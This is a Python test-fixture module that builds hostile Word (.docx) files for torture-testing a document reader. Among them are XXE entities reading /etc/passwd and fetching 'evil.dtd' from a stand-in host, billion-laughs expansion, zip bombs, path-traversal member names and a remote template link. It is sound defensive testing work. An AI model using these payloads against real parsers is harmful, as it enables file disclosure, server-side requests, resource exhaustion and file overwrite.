"""Hostile Word files by name, each a few lines of how it is built to harm its reader."""

from __future__ import annotations

import io
import random
import warnings
import zipfile
from collections.abc import Callable, Mapping

from tests.torture.raw_pdf import MEGABYTE, SENTENCE

WORD = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MAIN = "word/document.xml"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/></Types>'
).encode()
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
PARAGRAPH = b"<w:p><w:r><w:t>" + SENTENCE + b"</w:t></w:r></w:p>"


def body(inner: bytes, before: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + before
        + b"<w:document "
        + WORD
        + b"><w:body>"
        + inner
        + b"</w:body></w:document>"
    )


def archive(members: Mapping[str, bytes]) -> bytes:
    written = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        # Names that stand twice are meant.
        warnings.simplefilter("ignore", UserWarning)
        for name, content in members.items():
            made.writestr(name, content)
    return written.getvalue()


def word(inner: bytes = PARAGRAPH, before: bytes = b"", more: Mapping[str, bytes] | None = None) -> bytes:
    """A Word file with this body, a document type before it, and more members."""
    members = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, MAIN: body(inner, before)}
    return archive(members | dict(more or {}))


def heavy(inner: bytes, before: bytes = b"") -> bytes:
    """A Word file with much that cannot be packed, so that what can be does not look like a bomb."""
    return word(inner, before, {"word/media/noise.bin": random.Random(1).randbytes(MEGABYTE)})


def local_file_as_entity() -> bytes:
    return word(b"<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>')


def address_as_entity() -> bytes:
    return word(
        PARAGRAPH,
        b'<!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd" [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>',
    )


def entities_doubling() -> bytes:
    """Each name stands for ten of the one before: a thousand million words out of ten lines."""
    names = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    return word(b"<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>", b'<!DOCTYPE d [<!ENTITY e0 "words ">' + names + b"]>")


def one_long_entity() -> bytes:
    return heavy(
        b"<w:p><w:r><w:t>" + b"&e;" * 20_000 + b"</w:t></w:r></w:p>",
        b'<!DOCTYPE d [<!ENTITY e "%s">]>' % (b"a" * 50_000),
    )


def zeros_as_picture() -> bytes:
    return word(more={"word/media/image1.png": bytes(400 * MEGABYTE)})


def zeros_as_text() -> bytes:
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, MAIN: b" " * (300 * MEGABYTE)})


def paragraphs_without_end() -> bytes:
    """Eight million empty paragraphs."""
    return word(b"<w:p/>" * 8_000_000)


def within_the_ratio() -> bytes:
    """As many paragraphs as a file may unpack to."""
    return heavy(PARAGRAPH * 600_000)


def lying_about_its_size() -> bytes:
    """The archive's list says that the main part is small; it is not."""
    written = bytearray(word(PARAGRAPH * 50_000))
    at = written.rindex(b"PK\x01\x02", 0, written.rindex(MAIN.encode()))
    written[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(written)


def members_without_end() -> bytes:
    return word(more={f"word/media/{number}": b"" for number in range(10_000)})


def names_that_climb() -> bytes:
    return word(more={"../../../../tmp/climbed": b"1", "/etc/climbed": b"1", "word\\..\\..\\climbed": b"1"})


def main_part_twice() -> bytes:
    written = io.BytesIO(word())
    with warnings.catch_warnings(), zipfile.ZipFile(written, "a") as made:
        warnings.simplefilter("ignore", UserWarning)
        made.writestr(MAIN, body(b"<w:p><w:r><w:t>Something else was decided.</w:t></w:r></w:p>"))
    return written.getvalue()


def nested_tables() -> bytes:
    deep = 5000
    return heavy(b"<w:tbl><w:tr><w:tc>" * deep + PARAGRAPH + b"</w:tc></w:tr></w:tbl>" * deep)


def nested_within_reason() -> bytes:
    """Tables as deep as the reader of XML allows."""
    deep = 80
    return heavy(b"<w:tbl><w:tr><w:tc>" * deep + PARAGRAPH + b"</w:tc></w:tr></w:tbl>" * deep)


def huge_table() -> bytes:
    return heavy(
        b"<w:tbl>"
        + (b"<w:tr>" + b"<w:tc><w:p><w:r><w:t>12</w:t></w:r></w:p></w:tc>" * 60 + b"</w:tr>") * 2000
        + b"</w:tbl>"
    )


def one_long_paragraph() -> bytes:
    return heavy(b"<w:p>" + b"<w:r><w:t>word and </w:t></w:r>" * 300_000 + b"</w:p>")


def page_breaks_without_end() -> bytes:
    return heavy(b'<w:p><w:r><w:br w:type="page"/><w:t>Noted.</w:t></w:r></w:p>' * 50_000)


def attributes_without_end() -> bytes:
    return heavy(b"<w:p " + b" ".join(b'a%d="1"' % n for n in range(200_000)) + b"/>")


def macros() -> bytes:
    return word(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_document_renamed() -> bytes:
    kind = TYPES.replace(MAIN_TYPE.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return word(more={"[Content_Types].xml": kind})


def remote_template() -> bytes:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    )
    settings = b"<w:settings " + WORD + b"><w:attachedTemplate/></w:settings>"
    return word(more={"word/settings.xml": settings, "word/_rels/settings.xml.rels": relation})


def no_main_part() -> bytes:
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, "word/document.xml.bak": body(PARAGRAPH)})


def no_body() -> bytes:
    return archive({"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, MAIN: b"<w:document " + WORD + b"/>"})


def wrong_types() -> bytes:
    return word(more={"[Content_Types].xml": TYPES.replace(b"wordprocessingml", b"spreadsheetml")})


def not_xml() -> bytes:
    return archive(
        {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS, MAIN: b"\xff\xfe\x00<<<>>>" + bytes(range(256))}
    )


def styles_in_a_circle() -> bytes:
    circle = b'<w:style w:type="paragraph" w:styleId="%s"><w:basedOn w:val="%s"/></w:style>'
    styles = b"<w:styles " + WORD + b">" + circle % (b"A", b"B") + circle % (b"B", b"A") + b"</w:styles>"
    styled = PARAGRAPH.replace(b"<w:p>", b'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr>')
    return word(styled, more={"word/styles.xml": styles})


def numbers_out_of_range() -> bytes:
    listed = b'<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="-5"/></w:numPr></w:pPr></w:p>'
    lists = (
        b"<w:numbering " + WORD + b'><w:abstractNum w:abstractNumId="x"><w:lvl w:ilvl="-1"><w:start w:val="1e9"/>'
        b'<w:lvlText w:val="%1.%99"/></w:lvl></w:abstractNum><w:num w:numId="-5"><w:abstractNumId w:val="x"/></w:num>'
        b"</w:numbering>"
    )
    return word(listed + PARAGRAPH, more={"word/numbering.xml": lists})


def empty_archive() -> bytes:
    return archive({})


def not_an_archive() -> bytes:
    return b"PK\x03\x04" + b"word/document.xml" + bytes(range(256)) * 40


def cut_short() -> bytes:
    written = word(PARAGRAPH * 200)
    return written[: len(written) * 2 // 3]


def encrypted_members() -> bytes:
    written = bytearray(word())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = written.find(mark)
        while at >= 0:
            written[at + flags] |= 1
            at = written.find(mark, at + 4)
    return bytes(written)


def old_word_renamed() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)


HOSTILE_DOCX: dict[str, Callable[[], bytes]] = {
    f"word_{hazard.__name__}": hazard
    for hazard in (
        local_file_as_entity, address_as_entity, entities_doubling, one_long_entity, zeros_as_picture, zeros_as_text,
        paragraphs_without_end, within_the_ratio, lying_about_its_size, members_without_end, names_that_climb,
        main_part_twice, nested_tables, nested_within_reason, huge_table, one_long_paragraph, page_breaks_without_end,
        attributes_without_end, macros, macro_document_renamed, remote_template, no_main_part, no_body, wrong_types,
        not_xml, styles_in_a_circle, numbers_out_of_range, empty_archive, not_an_archive, cut_short, encrypted_members,
        old_word_renamed,
    )
}  # fmt: skip
